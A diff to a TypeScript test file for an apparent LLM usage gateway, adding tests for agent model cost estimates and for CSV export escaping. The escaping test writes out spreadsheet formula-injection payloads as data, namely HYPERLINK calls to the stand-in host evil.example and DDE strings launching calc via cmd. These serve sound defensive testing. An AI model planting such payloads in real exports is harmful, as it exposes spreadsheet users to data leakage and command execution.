@@ -6,6 +6,7 @@ import { print } from 'graphql';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Simulator } from '../../src/simulator/simulator.js';
 import { addSimProvider, userMessage } from '../testkit/chat.js';
+import { graphql } from '../generated/gql.js';
 import { Chat, Models, UpdateProvider, UsageEvents, UsageTicks } from '../testkit/documents.js';
 import { disposeAll, newWorkspace, startSimulator, startTestServer, take, type TestServer } from '../testkit/server.js';
 import { insertLedgerRows, type LedgerRow } from '../testkit/usage.js';
@@ -22,6 +23,17 @@ const row = (at: string, overrides: Partial<LedgerRow> = {}): LedgerRow => ({
   createdAt: new Date(at), providerId: PROVIDER, model: 'gpt-4o', agent: null, operation: null, userId: 'u1', status: 'SUCCEEDED', promptTokens: 10, completionTokens: 5, costMicros: 123n, durationMs: 40, ...overrides,
 });
 const RANGE = { from: '2026-04-01T00:00:00Z', to: '2026-05-01T00:00:00Z' };
+
+const ChooseAgentModel = graphql(`
+  mutation ChooseAgentModel($input: AgentModelPreferenceInput!) {
+    setAgentModelPreference(input: $input) { agentType model estimatedUsdPerMTok }
+  }
+`);
+const AgentModelEstimates = graphql(`
+  query AgentModelEstimates {
+    preferences { agentPreferences { agentType model estimatedUsdPerMTok } }
+  }
+`);
 
 describe('usageEvents', () => {
   it('pages newest first in a stable order, with filters, and refuses bad cursors and page sizes', async () => {
@@ -109,6 +121,33 @@ describe('models', () => {
   });
 });
 
+describe('agent model preferences', () => {
+  it("estimate each choice's cost from the catalog: USD per million tokens, three input to one output; null for a model it does not price", async () => {
+    const token = await gw.token(newWorkspace().claims('owner'));
+    const provider = (await addSimProvider(gw, sim, token)).id;
+    const catalog = await gw.execute(Models, { kind: 'OPENAI', first: 200 }, { token });
+    const price = (model: string) => catalog.data!.models.edges.map((e) => e.node).find((m) => m.model === model)!;
+    const blended = (model: string) => (3 * price(model).inputUsdPerMTok! + price(model).outputUsdPerMTok!) / 4;
+    const choices = [
+      ['coder', 'gpt-4o', blended('gpt-4o')],
+      ['helper', 'gpt-4o-mini', blended('gpt-4o-mini')],
+      ['local', 'llama3.1', null], // the provider offers it; the catalog has no OpenAI price for it
+    ] as const;
+    for (const [agentType, model, estimate] of choices) {
+      const set = await gw.execute(ChooseAgentModel, { input: { agentType, providerId: provider, model } }, { token });
+      expect(set.errors).toBeUndefined();
+      if (estimate === null) expect(set.data!.setAgentModelPreference.estimatedUsdPerMTok).toBeNull();
+      else expect(set.data!.setAgentModelPreference.estimatedUsdPerMTok).toBeCloseTo(estimate, 6);
+    }
+    expect(blended('gpt-4o')).toBeGreaterThan(blended('gpt-4o-mini'));
+    const listed = await gw.execute(AgentModelEstimates, {}, { token });
+    const byAgent = (a: readonly unknown[], b: readonly unknown[]) => String(a[0]).localeCompare(String(b[0]));
+    expect(listed.data!.preferences.agentPreferences.map((p) => [p.agentType, p.model, p.estimatedUsdPerMTok]).sort(byAgent)).toEqual(
+      [...choices].sort(byAgent).map(([agentType, model, estimate]) => [agentType, model, estimate === null ? null : expect.closeTo(estimate, 6)]),
+    );
+  });
+});
+
 describe('CSV export', () => {
   const exportCsv = (token: string | undefined, query: string) =>
     fetch(`${gw.url}/export/usage.csv?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
@@ -149,6 +188,23 @@ describe('CSV export', () => {
     ]);
     const own = parseCsv(await (await exportCsv(member, `from=${RANGE.from}&to=${RANGE.to}`)).text(), { columns: true }) as Array<Record<string, string>>;
     expect(own.map((r) => r.user_id)).toEqual(['u2']);
+  });
+
+  it('writes text cells that a spreadsheet would run as a formula with a leading quote, and numbers as they are', async () => {
+    const workspace = newWorkspace();
+    const token = await gw.token(workspace.claims('owner'));
+    const starts = ['=', '+', '-', '@', '\t', '\r'];
+    const formulas = starts.map((start, i) => ({ model: `${start}1+${i}`, agent: `${start}HYPERLINK("http://evil.example/?${i}")`, operation: `${start}cmd|' /C calc'!A${i}` }));
+    await insertLedgerRows(gw.db, workspace.id, formulas.map((text, i) => row(`2026-04-02T0${i}:00:00Z`, { ...text, promptTokens: 7 + i })));
+    const escaped = (text: string) => `'${text}`;
+
+    const events = parseCsv(await (await exportCsv(token, `from=${RANGE.from}&to=${RANGE.to}`)).text(), { columns: true }) as Array<Record<string, string>>;
+    expect(events.map((r) => [r.model, r.agent, r.operation])).toEqual(formulas.map((f) => [escaped(f.model), escaped(f.agent), escaped(f.operation)]));
+    expect(events.map((r) => [r.prompt_tokens, r.cost_usd])).toEqual(formulas.map((_, i) => [String(7 + i), '0.000123']));
+
+    const grouped = parseCsv(await (await exportCsv(token, `from=2026-04-02T00:00:00Z&to=2026-04-03T00:00:00Z&groupBy=MODEL,AGENT,OPERATION&bucket=DAY`)).text(), { columns: true }) as Array<Record<string, string>>;
+    expect(new Set(grouped.map((r) => JSON.stringify([r.model, r.agent, r.operation])))).toEqual(new Set(formulas.map((f) => JSON.stringify([escaped(f.model), escaped(f.agent), escaped(f.operation)]))));
+    expect(grouped.map((r) => r.requests)).toEqual(formulas.map(() => '1'));
   });
 
   it('refuses a missing or bad token with 401, bad parameters with 400 and other methods with 405, as JSON with a code', async () => {
